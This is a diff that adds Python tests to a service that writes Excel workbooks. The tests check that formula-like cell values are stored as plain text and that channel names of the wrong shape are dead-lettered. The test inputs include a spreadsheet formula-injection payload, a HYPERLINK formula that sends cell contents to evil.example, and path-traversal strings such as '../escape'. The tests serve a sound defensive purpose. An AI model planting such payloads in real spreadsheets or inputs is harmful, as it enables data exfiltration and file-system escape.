@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import uuid
+import zipfile
 from collections.abc import AsyncIterator
 from dataclasses import dataclass
 from datetime import UTC, datetime, timedelta
@@ -14,8 +15,10 @@ from nats.aio.client import Client
 from openpyxl import load_workbook
 
 from relay_cli.stack import StackEndpoints
+from relay_shared import subjects
 from relay_shared.config_store import TenantConfigStore
 from relay_shared.events import Event, InsightGenerated
+from relay_shared.identifiers import CHANNEL_PATTERN
 from relay_shared.storage import ObjectStore
 from relay_sheets.app import SheetsApp
 from relay_sheets.settings import SheetsSettings
@@ -23,6 +26,7 @@ from tests.support.channel_events import offers_merged, order_shipped, put_merge
 from tests.support.jetstream import (
     delete_streams,
     nats_client,
+    next_event,
     publish,
     wait_consumed,
     wait_for_stream,
@@ -222,3 +226,63 @@ async def test_insights_rows_update_in_place_and_ignore_stale_events(
         ["out_of_stock", "B-2", "resolved", "2026-03-03T12:00:00Z", '{"quantity": 0}'],
         ["out_of_stock", "C-3", "open", T0_TEXT, '{"quantity": 0}'],
     ]
+
+
+HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
+
+
+async def test_feed_and_order_cells_that_look_like_formulas_are_written_as_text(
+    sheets: Sheets, object_store: ObjectStore, unique_id: str
+) -> None:
+    tenant = f"t-{unique_id}"
+    await TenantConfigStore(object_store).save(tenant, 1, tenant_config(tenant))
+    hyperlink_csv = '"' + HYPERLINK.replace('"', '""') + '"'
+    rows = [f"A-1,10,12.00,{hyperlink_csv},v1,", "-B2,3,5.50,+1+2,v1,", "C-3,0,7.00,@SUM(A1),v1,"]
+
+    await merge(sheets, object_store, tenant, "run-1", rows, T0)
+    order = order_shipped(tenant, f"e1-{unique_id}", "=1+1", "amazon", [("-B2", 1)], T0)
+    await sheets.send(order)
+
+    merged = load_workbook(sheets.root / tenant / "Merged feed.xlsx")["Merged feed"]
+    assert [[(c.value, c.data_type) for c in row[:4]] for row in merged.iter_rows(min_row=2)] == [
+        [("A-1", "s"), (10, "n"), (12.0, "n"), (HYPERLINK, "s")],
+        [("-B2", "s"), (3, "n"), (5.5, "n"), ("+1+2", "s")],
+        [("C-3", "s"), (0, "n"), (7.0, "n"), ("@SUM(A1)", "s")],
+    ]
+    assert [c.quotePrefix for c in merged["D"][1:]] == [True, True, True]
+    assert sheets.channel(tenant, "amazon", "Listings")[1:] == [
+        ["A-1", HYPERLINK, 8, 12.0, "active", T0_TEXT, None],
+        ["-B2", "+1+2", 0, 5.5, "active", T0_TEXT, T0_TEXT],
+        ["C-3", "@SUM(A1)", 0, 7.0, "active", T0_TEXT, None],
+    ]
+    assert sheets.channel(tenant, "amazon", "Orders")[1:] == [["=1+1", "-B2", 1, T0_TEXT]]
+    for path in (sheets.root / tenant).rglob("*.xlsx"):
+        with zipfile.ZipFile(path) as archive:
+            parts = [n for n in archive.namelist() if n.startswith("xl/worksheets/sheet")]
+            assert parts
+            assert all(b"<f>" not in archive.read(n) for n in parts), path
+
+
+@pytest.mark.parametrize("channel", ["../escape", "Amazon", "a b", "amazon/../../x", "x" * 40])
+async def test_an_order_for_a_channel_of_the_wrong_shape_is_dead_lettered_unwritten(
+    sheets: Sheets, unique_id: str, channel: str
+) -> None:
+    tenant = f"t-{unique_id}"
+    event_id = f"bad-channel-{unique_id}"
+
+    await sheets.send(order_shipped(tenant, event_id, "O-1", channel, [("A-1", 1)], T0))
+
+    dead = await next_event(
+        sheets.client,
+        subjects.dead_letter_stream(STREAM),
+        "dlq.order.shipped",
+        where=lambda record: record["event_id"] == event_id,
+        timeout=30,
+    )
+    assert (dead["service"], dead["code"], dead["deliveries"]) == ("sheets", "invalid_channel", 1)
+    assert dead["reason"] == (
+        f"channel {channel!r} is not a valid channel name"
+        f" (it must match {CHANNEL_PATTERN}): no workbook is written for it"
+    )
+    assert not (sheets.root / tenant).exists()
+    assert sorted(p.name for p in sheets.root.iterdir() if not p.name.startswith("t-")) == []
